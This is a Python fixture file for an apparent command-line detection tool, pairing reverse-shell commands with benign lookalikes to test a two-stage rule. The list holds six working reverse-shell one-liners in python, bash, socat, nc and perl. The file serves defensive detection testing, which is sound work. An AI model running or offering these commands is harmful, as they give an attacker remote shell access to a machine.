"""Bundled fixtures: the hard true-positive / false-positive command pairs
used to demonstrate why the Stage-1 rule must stay loose, plus helpers to
locate bundled rule and plan files."""

from __future__ import annotations

import importlib.resources
from pathlib import Path

from cmdsift.core import Event

# Closely similar pairs: each false positive legitimately trips the loose
# reverse-shell rule and is distinguishable only by the second stage.
REVERSE_SHELL_PAIRS: list[tuple[str, str]] = [
    (
        'python3 -c "import os,pty,socket;s=socket.socket();s.connect((1.2.3.4,1337));'
        '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\\"sh\\")"',
        "python3 -c import sys, pty if pty.spawn(sys.argv[1:]) != 0: sys.exit(1) test",
    ),
    (
        "sh -i >& /dev/tcp/10.10.10.5/8080 0>&1",
        'bash -c "echo > /dev/tcp/127.0.0.1/$port" 2>/dev/null && echo "Port $port is open"',
    ),
    (
        "socat UDP-LISTEN:53,fork EXEC:'/bin/bash -i'",
        "/bin/sh -c \"socat TCP6-LISTEN:1001,end-close,shut-none,cool-write,fork EXEC:'cat'\"",
    ),
    (
        "nc 10.1.1.1 80 -e /bin/sh",
        '/bin/sh -c "nc -6 -vz -w 10 test.host 22',
    ),
    (
        "perl -MIO::Socket::INET -e '$p=fork;exit if($p);$c=new IO::Socket::INET(PeerAddr,"
        '"192.168.1.10:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){system $_;}\'',
        'perl -n -e "/inet ([^\\/]+).* scope global/ && print $1 and exit"',
    ),
    (
        "exec 3<>/dev/tcp/127.0.0.1/8080; sh <&3 1<&3 2<&3",
        'bash -c "exec 3<>/dev/tcp/db.internal/5432; echo ping >&3" && echo db reachable',
    ),
]


def pair_events(base_ts_ms: int = 1_700_000_000_000) -> list[tuple[Event, bool]]:
    """The fixture pairs as events with ground truth (True = attack)."""
    out: list[tuple[Event, bool]] = []
    for i, (tp, fp) in enumerate(REVERSE_SHELL_PAIRS):
        out.append(
            (Event(f"tp{i}", base_ts_ms + 2 * i * 1000, "host-a", "root", "bash", tp), True)
        )
        out.append(
            (Event(f"fp{i}", base_ts_ms + (2 * i + 1) * 1000, "host-b", "svc", "bash", fp), False)
        )
    return out


def data_path(*parts: str) -> Path:
    """Path to a bundled data file, e.g. data_path('rules', 'reverse_shell.yar')."""
    root = importlib.resources.files("cmdsift") / "data"
    return Path(str(root.joinpath(*parts)))


def reverse_shell_rule_path() -> Path:
    return data_path("rules", "reverse_shell.yar")
